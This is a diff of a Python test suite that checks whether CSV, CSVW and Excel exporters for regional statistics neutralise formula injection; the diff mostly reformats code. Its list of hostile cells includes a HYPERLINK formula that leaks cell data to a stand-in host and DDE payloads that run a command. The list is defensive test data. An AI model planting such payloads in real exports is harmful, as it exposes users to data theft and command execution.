@@ -38,10 +38,33 @@ MANIFEST = json.loads((REPO / "regional_data" / "manifest.json").read_text(encod
 
 # What Excel or LibreOffice would evaluate, or split into a cell they would evaluate (issue 12, item 5).
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
-    " =1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1dHYPERLINK(\"x\")", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661+1",
-    "a;=1+1", "a,=1+1", "a|=cmd|' /C calc'!A0", "a\t=1+1", "a\n=1+1", "a\r\n+1", "a\uff1b=1", "a\uff0c=1",
-    "a; =1", 'a;"=1', "=cmd|' /C calc'!A0", "-", "--1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    '\uff1dHYPERLINK("x")',
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(1)",
+    "\ufe661+1",
+    "a;=1+1",
+    "a,=1+1",
+    "a|=cmd|' /C calc'!A0",
+    "a\t=1+1",
+    "a\n=1+1",
+    "a\r\n+1",
+    "a\uff1b=1",
+    "a\uff0c=1",
+    "a; =1",
+    'a;"=1',
+    "=cmd|' /C calc'!A0",
+    "-",
+    "--1",
 ]
 HARMLESS = ["North East", "-2.5", "+3%", "1,234.5", "Cheshire & Warrington", "'=already text", "a-b", "2019/20"]
 
@@ -61,8 +84,14 @@ def test_plain_text_and_numbers_written_as_text_are_left_alone(cell: str) -> Non
 
 def hostile_frame() -> pd.DataFrame:
     """A figure's data whose text cells and column names are all hostile."""
-    frame = pd.DataFrame({"area_code": [f"X{i}" for i in range(len(HOSTILE))], "area_name": HOSTILE,
-                          "value": np.arange(len(HOSTILE), dtype=float), "unit": "£"})
+    frame = pd.DataFrame(
+        {
+            "area_code": [f"X{i}" for i in range(len(HOSTILE))],
+            "area_name": HOSTILE,
+            "value": np.arange(len(HOSTILE), dtype=float),
+            "unit": "£",
+        }
+    )
     for number, name in enumerate(HOSTILE[:6]):
         frame[name] = [f"{name} {i}" for i in range(len(HOSTILE))] if number % 2 else HOSTILE[::-1]
     return frame
@@ -100,19 +129,35 @@ def test_every_writer_escapes_every_cell_headers_included() -> None:
 
 
 def test_the_matched_data_csv_of_an_upload_with_a_formula_header_is_inert() -> None:
-    values = pd.DataFrame({"area_code": ["E37000025", "E37000003"], "area_name": ["North East", "Cheshire"],
-                           "uploaded": HOSTILE[:2], "name_in_file": HOSTILE[2:4], "value": [1.0, 2.0],
-                           "status": ["", ""]})
+    values = pd.DataFrame(
+        {
+            "area_code": ["E37000025", "E37000003"],
+            "area_name": ["North East", "Cheshire"],
+            "uploaded": HOSTILE[:2],
+            "name_in_file": HOSTILE[2:4],
+            "value": [1.0, 2.0],
+            "status": ["", ""],
+        }
+    )
     for header in HOSTILE:
         data = yd.matched_csv(values, level="lep", column=header, period=2022)
         assert not [cell for cell in csv_cells(data) if could_run_as_formula(cell)], header
-        check_csvw(data, yd.matched_csvw(values, source="x.csv", level="lep", column=header, period=2022,
-                                         csv_name="m.csv"), "m.csv")
+        check_csvw(
+            data,
+            yd.matched_csvw(values, source="x.csv", level="lep", column=header, period=2022, csv_name="m.csv"),
+            "m.csv",
+        )
 
 
 def test_xlsx_keeps_text_numbers_and_gaps_apart() -> None:
-    frame = pd.DataFrame({"name": ["a", None, "=x", "<b>&amp;</b>", "bad\x01char"], "n": [1, 2, 3, 4, 5],
-                          "v": [0.1, np.nan, -2.5, 1e-12, 3.0], "flag": [True, False, True, False, True]})
+    frame = pd.DataFrame(
+        {
+            "name": ["a", None, "=x", "<b>&amp;</b>", "bad\x01char"],
+            "n": [1, 2, 3, 4, 5],
+            "v": [0.1, np.nan, -2.5, 1e-12, 3.0],
+            "flag": [True, False, True, False, True],
+        }
+    )
     book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, [["Title", "=T"], [], ["n", 1.5]])))
     rows = list(book["data"].iter_rows(values_only=True))
     assert rows[0] == ("name", "n", "v", "flag")
